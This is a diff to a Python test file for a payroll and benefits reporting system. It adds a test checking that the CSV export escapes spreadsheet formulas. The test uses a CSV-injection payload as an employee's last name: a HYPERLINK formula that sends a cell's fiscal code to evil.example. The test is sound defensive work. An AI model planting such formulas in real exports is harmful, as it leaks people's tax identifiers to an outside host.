@@ -1,10 +1,12 @@
 """Grants under the year's figures, on real PostgreSQL (the benefits schema; the
 wallet's side stands in as a function): performance-bonus conversions counted
 together per employee and year, even when they race, and the payroll report
-applying the year's pension limit."""
+applying the year's pension limit, its CSV safe to open in a spreadsheet."""
 
 from __future__ import annotations
 
+import csv
+import io
 import uuid
 from collections.abc import Iterator
 from datetime import date
@@ -45,10 +47,11 @@ class Company:
                                "last_name": "Neri"}})["id"]
             s.commit()
 
-    def employee(self, fake, income_band: str | None = "up_to_80k") -> str:
+    def employee(self, fake, income_band: str | None = "up_to_80k",
+                 last_name: str = "Blu") -> str:
         with self.factory() as s:
             view = domain.enroll_employee(s, self.id, {
-                "email": fake.email("employee"), "first_name": "Anna", "last_name": "Blu",
+                "email": fake.email("employee"), "first_name": "Anna", "last_name": last_name,
                 "fiscal_code": fake.fiscal_code(), "dependent_children": [],
                 "language": "it", "group": None, "hire_date": None,
                 "income_band": income_band})
@@ -179,3 +182,18 @@ def test_the_payroll_report_applies_the_year_s_pension_limit(
         exempt, taxable)
     # the fringe limit, 1,000 EUR in both years: a cent over and all of it is taxable
     assert rows["fringe"]["taxable_cents"] == 100_001
+
+
+def test_the_payroll_csv_writes_a_formula_typed_as_a_name_as_text(factory, fake) -> None:
+    """A name a spreadsheet would run (CSV injection) is written as text; the amounts
+    stay numbers (issue 23.6)."""
+    hyperlink = '=HYPERLINK("https://evil.example/?cf="&B2;"Clicca")'
+    company = Company(factory, fake)
+    anna = company.employee(fake, last_name=hyperlink)
+    usage = [{"employee_id": anna, "category": "fringe", "amount_cents": 20_000}]
+    with factory() as s:
+        text = reports.as_csv(reports.fiscal_report(s, company.id, 2026, usage))
+    rows = list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))
+    assert rows[0]["last_name"] == "'" + hyperlink
+    assert rows[0]["fringe_within_limit_cents"] == "20000"
+    assert rows[-1]["employee_id"] == "TOTAL" and rows[-1]["used_cents"] == "20000"
